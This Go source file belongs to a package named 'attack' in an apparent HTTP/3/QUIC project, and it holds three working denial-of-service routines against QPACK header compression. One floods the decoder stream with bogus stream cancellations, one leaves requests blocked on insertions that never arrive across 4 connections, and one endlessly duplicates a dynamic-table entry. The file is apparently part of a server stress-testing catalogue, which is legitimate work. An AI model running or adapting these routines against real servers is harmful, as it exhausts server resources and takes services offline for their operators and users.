package attack

import (
	"errors"
	"strings"
	"time"

	"github.com/godwit-quic/godwit/internal/h3"
)

var qpackRows = []Row{
	{Name: "qpack-cancellations", Class: "QPACK encoder state", run: cancellations,
		Does: "fills its decoder stream with cancellations of streams that there are not, 3,000 packets a second"},
	{Name: "qpack-blocked", Class: "QPACK blocked streams", run: blockedStreams,
		Does: "sends requests whose fields need insertions that never come, on 4 connections"},
	{Name: "qpack-duplicates", Class: "QPACK encoder state", run: duplicates,
		Does: "duplicates an entry of the dynamic table for ever, by a byte each"},
}

// errNoStream is the error of a server that allows too few streams.
var errNoStream = errors.New("the server allows no unidirectional stream")

// dynamic are settings that let the server use a dynamic table.
var dynamic = []h3.Setting{{ID: h3.SettingQPACKMaxTableCapacity, Value: 4096}, {ID: h3.SettingQPACKBlockedStreams, Value: 100}}

func cancellations(a *attacker) error {
	c, err := a.dial(dialing{settings: dynamic})
	if err != nil {
		return err
	}
	c.window = 256
	s := c.uni(h3.StreamQPACKDecoder)
	if s == nil {
		return errNoStream
	}
	for i := range 300 { // sections that are never acknowledged
		for !c.get("/hello") && c.alive() && !a.over() {
			a.poll(time.Millisecond)
		}
		if i%16 == 0 {
			a.poll(time.Millisecond)
		}
	}
	a.pause(200 * time.Millisecond)
	b := []byte(strings.Repeat("\x7e", maxPayload-streamHeader)) // stream 62, which is nobody's
	a.pour(3000, s, b)
	return nil
}

func blockedStreams(a *attacker) error {
	conns, err := a.dialMany(4, dialing{})
	if err != nil {
		return err
	}
	for _, c := range conns {
		s := c.uni(h3.StreamQPACKEncoder)
		if s == nil {
			return errNoStream
		}
		s.write(capacity(4096), false)
	}
	a.pause(100 * time.Millisecond)
	// Required Insert Count 1, and a field that refers to it.
	request := frame(h3.FrameHeaders, append([]byte{2, 0, 0x80}, strings.Repeat("\xd1", 1000)...))
	a.begun()
	n := 0
	a.eachConn(20_000, conns, func(c *conn) bool {
		if s, ok := c.open(false); ok {
			n++
			s.write(request, false)
		}
		return true
	})
	a.notef("%d requests; %s", n, ends(conns))
	return nil
}

func duplicates(a *attacker) error {
	c, err := a.dial(dialing{})
	if err != nil {
		return err
	}
	c.window = 256
	s := c.uni(h3.StreamQPACKEncoder)
	if s == nil {
		return errNoStream
	}
	s.write(append(capacity(4096), insertion("x", "y")...), false)
	a.pause(100 * time.Millisecond)
	b := make([]byte, maxPayload-streamHeader) // Duplicate of the newest entry (RFC 9204, Section 4.3.4)
	a.pour(20_000, s, b)
	return nil
}
